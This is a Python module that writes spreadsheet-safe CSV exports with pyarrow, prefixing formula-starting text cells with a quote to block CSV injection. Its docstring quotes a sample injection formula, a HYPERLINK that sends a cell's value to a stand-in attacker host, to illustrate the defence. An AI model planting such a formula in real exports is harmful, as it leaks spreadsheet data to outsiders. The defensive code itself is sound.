"""The CSV of `/export`: its columns, one record batch at a time, spreadsheet-safe unless asked for raw bytes.

A cell that starts with `=`, `+`, `-`, `@`, TAB or CR is a formula to a spreadsheet
(`=HYPERLINK("http://evil.example/?x="&A1,"click")`): as the OWASP CSV-injection guidance describes, such cells
get a leading `'` in every text column. `raw=true` on `/export` keeps the exact bytes for tools that read CSV as
data. Quoting is RFC 4180 style (pyarrow's "needed": `"` doubled, texts may hold newlines).
"""

from __future__ import annotations

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv

from firehose.search import EXPORT_COLUMNS

FORMULA_START = "^[=+\\-@\t\r]"  # RE2: a cell a spreadsheet would evaluate
_OPTIONS = pacsv.WriteOptions(include_header=False, quoting_style="needed")


def csv_header() -> bytes:
    """The header row."""
    return (",".join(EXPORT_COLUMNS) + "\n").encode()


def csv_rows(batch: pa.RecordBatch, usernames: list[str], *, raw: bool) -> bytes:
    """The rows of one export batch (EXPORT_COLUMNS minus username, plus extras that are left out), with
    `usernames` (one per row) in the username column; neutralised unless `raw`."""
    columns = {name: batch.column(name) for name in EXPORT_COLUMNS if name != "username"}
    columns["username"] = pa.array(usernames, pa.string())
    table = pa.table([columns[name] for name in EXPORT_COLUMNS], names=list(EXPORT_COLUMNS))
    if not raw:
        table = neutralise(table)
    sink = pa.BufferOutputStream()
    pacsv.write_csv(table, sink, _OPTIONS)
    return sink.getvalue().to_pybytes()


def neutralise(table: pa.Table) -> pa.Table:
    """`table` with every text cell that starts with =, +, -, @, TAB or CR prefixed by a single quote."""
    columns = []
    for column in table.columns:
        if not pa.types.is_string(column.type):
            columns.append(column)
            continue
        formula = pc.fill_null(pc.match_substring_regex(column, FORMULA_START), False)
        columns.append(pc.if_else(formula, pc.binary_join_element_wise("'", column, ""), column))
    return pa.table(columns, names=table.column_names)
